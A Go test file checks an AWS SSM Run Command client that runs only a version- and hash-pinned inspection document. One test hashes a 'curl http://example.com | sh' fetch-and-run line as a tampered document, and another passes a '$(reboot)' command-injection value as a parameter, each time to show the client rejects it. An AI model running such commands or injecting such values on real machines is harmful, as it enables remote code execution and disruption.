package ssmrun_test

import (
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/keyward/keyward/local/ssm"
	"github.com/keyward/keyward/shared/aws/internal/awstest"
	"github.com/keyward/keyward/shared/fault"
	"github.com/keyward/keyward/shared/inspection"
)

// MaxErrors and MaxConcurrency keep one machine from stopping the inspection of others; version and hash
// keep anything but the inspection from being run.
func TestSendOnTheWire(t *testing.T) {
	t.Parallel()
	p := begin(t)
	p.node(t, awstest.Machine, "")
	p.node(t, awstest.Other, "")
	command := p.send(t, awstest.Machine, awstest.Other)
	want := map[string]any{
		"DocumentName": name, "DocumentVersion": "1", "DocumentHash": hash(first), "DocumentHashType": "Sha256",
		"InstanceIds": []any{awstest.Machine, awstest.Other}, "Parameters": map[string]any{"Nonce": []any{nonce}},
		"TimeoutSeconds": 30.0, "MaxConcurrency": "100%", "MaxErrors": "100%", "Comment": "Keyward look",
	}
	if diff := cmp.Diff(want, p.Only().Input); diff != "" {
		t.Errorf("SendCommand on the wire (-want +got):\n%s", diff)
	}
	if len(command) != 36 {
		t.Errorf("Send = %q, want a command's id", command)
	}
}

func TestSendRunsNothingButThePinnedDocument(t *testing.T) {
	t.Parallel()
	p := begin(t)
	p.node(t, awstest.Machine, "")
	d := p.document(t)
	d.Hash = hash("curl http://example.com | sh")
	_, err := p.client.Send(t.Context(), d, []string{awstest.Machine}, map[string]string{"Nonce": nonce}, "")
	awstest.Wrapped(t, err, fault.Conflict, "InvalidDocument")
	d = p.document(t)
	d.Version = "7"
	_, err = p.client.Send(t.Context(), d, []string{awstest.Machine}, map[string]string{"Nonce": nonce}, "")
	awstest.Wrapped(t, err, fault.Conflict, "InvalidDocumentVersion")
}

// Invalid means: leave this machine out. Nothing else that SSM refuses may look like it.
func TestSendTellsTheMachinesFaultFromOurs(t *testing.T) {
	t.Parallel()
	p := begin(t)
	p.node(t, awstest.Machine, "")
	if err := p.ssm.PutNode(ssm.Node{ID: awstest.Other, PlatformType: "Windows"}); err != nil {
		t.Fatal(err)
	}
	parameters := map[string]string{"Nonce": nonce}
	for title, c := range map[string]struct {
		machine    string
		parameters map[string]string
		kind       fault.Kind
		code       string
	}{
		"unknown machine": {id(7), parameters, fault.Invalid, "InvalidInstanceId"},
		"other platform":  {awstest.Other, parameters, fault.Invalid, "UnsupportedPlatformType"},
		"our parameters":  {awstest.Machine, map[string]string{"Nonce": "$(reboot)"}, fault.Internal, ""},
	} {
		_, err := p.client.Send(t.Context(), p.document(t), []string{c.machine}, c.parameters, "")
		t.Run(title, func(t *testing.T) { awstest.Wrapped(t, err, c.kind, c.code) })
	}
}

func TestDocument(t *testing.T) {
	t.Parallel()
	p := begin(t)
	if diff := cmp.Diff(inspection.Document{Name: name, Version: "1", Hash: hash(first), Content: first}, p.document(t)); diff != "" {
		t.Errorf("Document (-want +got):\n%s", diff)
	}
	p.put(t, second)
	if diff := cmp.Diff(inspection.Document{Name: name, Version: "2", Hash: hash(second), Content: second}, p.document(t)); diff != "" {
		t.Errorf("Document after a new version (-want +got):\n%s", diff)
	}
	_, err := p.client.Document(t.Context(), "keyward-other")
	awstest.Wrapped(t, err, fault.Conflict, "InvalidDocument")
}

// The content is read at the version that was described, so that hash and content are of one.
func TestDocumentPinsTheVersionItReads(t *testing.T) {
	t.Parallel()
	p := begin(t)
	if _, err := p.client.Document(t.Context(), name); err != nil {
		t.Fatal(err)
	}
	calls := p.Calls()
	want := map[string]any{"Name": name, "DocumentVersion": "1", "DocumentFormat": "JSON"}
	if len(calls) != 2 {
		t.Fatalf("calls = %+v, want two", calls)
	}
	if diff := cmp.Diff(want, calls[1].Input); diff != "" {
		t.Errorf("GetDocument (-want +got):\n%s", diff)
	}
}
